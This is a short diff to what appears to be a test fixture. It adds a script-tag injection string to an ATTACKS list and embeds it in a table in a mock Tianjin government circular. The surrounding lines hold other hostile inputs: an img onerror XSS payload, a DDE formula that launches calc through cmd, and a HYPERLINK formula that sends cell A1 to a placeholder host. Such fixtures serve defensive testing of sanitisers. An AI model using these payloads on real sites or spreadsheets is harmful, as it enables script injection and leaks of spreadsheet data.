@@ -22,6 +22,7 @@ ATTACKS = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     '"><img src=x onerror=window.owned=7>',
     "<style>@import",
+    "<script>window.owned=8</script>",
 ]
 """Pieces that belong to the document and must be read in the restored text of its page."""
 CIRCULAR = f"""{TITLE}
@@ -36,6 +37,7 @@ CIRCULAR = f"""{TITLE}
 序号 | 单位 | 网站名称 | 等次 |
 1 | =HYPERLINK("http://example.invalid/?"&A1,"点此") | {ATTACKS[5]} | 优秀 |
 2 | {ATTACKS[6]} | +市商务局 | 不合格 |
+3 | {ATTACKS[8]} | 首页 登录 | 合格 |
 
 天津市人民政府办公厅
 2020年4月20日
